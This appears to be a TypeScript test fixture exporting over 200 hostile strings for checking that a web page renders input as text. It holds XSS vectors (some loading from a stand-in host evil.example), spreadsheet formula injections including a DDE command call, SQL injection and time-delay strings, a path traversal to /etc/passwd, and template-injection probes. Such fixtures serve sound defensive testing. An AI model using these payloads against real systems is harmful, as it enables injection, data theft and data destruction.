// Texts that an attacker may store or send to change a page's behaviour. Each script in them calls
// `pdl()`, so that a browser test can define it and count; markup and scripts must be rendered as
// text.

const BREAKS = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "`",
  "</script>",
  "</title>",
  "</textarea>",
  "</style>",
  "-->",
  "]]>",
  "}}",
  "\\",
];

const VECTORS = [
  "<script>pdl()</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror=pdl()>",
  "<svg onload=pdl()>",
  "<svg><script>pdl()</script></svg>",
  "<iframe srcdoc='<script>pdl()</script>'>",
  "<a href=javascript:pdl()>x</a>",
  "<body onload=pdl()>",
  "<input autofocus onfocus=pdl()>",
  "<details open ontoggle=pdl()>",
  "<math><mtext><img src=x onerror=pdl()>",
  "<base href=//evil.example>",
  "<style>*{background:url(//evil.example)}</style>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  " onmouseover=pdl() x=",
];

const TEMPLATES = [
  "{{7919*7907}}",
  "${7919*7907}",
  "#{7919*7907}",
  "<%= 7919*7907 %>",
  "{{constructor.constructor('pdl()')()}}",
  "%{7919*7907}",
  "[[7919*7907]]",
  "{name, plural, other {#}}",
  "{count}",
  "<b>{name}</b>",
];

const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://evil.example")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

const ODD = [
  "\u202egnp.exe",
  "\u2066hidden\u2069",
  "a\u200bb\u200cc\u200dd",
  "Z̸̢̛̗͕͖̮̟̦͇ä̴̤l̵̰̈g̵̘o".repeat(3),
  "\u0000",
  "a\u0007b\u001b[31m",
  "\ufeffmark",
  "\ufffe\uffff",
  "﷽".repeat(20),
  "🏳️‍🌈👩‍👩‍👧‍👦",
  "&lt;script&gt;pdl()&lt;/script&gt;",
  "&#60;script&#62;pdl()",
  "\\u003cscript\\u003epdl()",
  "%3Cscript%3Epdl()%3C/script%3E",
  "＜script＞pdl()＜/script＞",
  "<!--",
  "<![CDATA[",
  '<?xml version="1.0"?>',
  '\'; DROP TABLE "user"; --',
  "' OR '1'='1",
  "$1; SELECT pg_sleep(9)",
  "../../../etc/passwd",
  "\\\\evil.example\\share",
  "__proto__",
  "constructor",
  "null",
  "$K1",
  "$@1",
  "$undefined",
  "NaN",
  "x".repeat(60),
  "<".repeat(60),
  "&".repeat(60),
  '"'.repeat(60),
  "a\nb\r\nc",
  "javascript:pdl()",
  "data:text/html,<script>pdl()</script>",
  "\u2028\u2029</script>",
];

/** More than 200 hostile texts, each short enough for a name (at most 80 characters). */
export const HOSTILE_TEXTS: string[] = [
  ...BREAKS.flatMap((end) => VECTORS.map((vector) => end + vector)),
  ...TEMPLATES,
  ...FORMULAS,
  ...ODD,
];

/** Texts longer than the limit of any field. */
export const ENDLESS_TEXTS = ["x".repeat(5_000), "<b>".repeat(2_000), "é\u0301".repeat(3_000)];
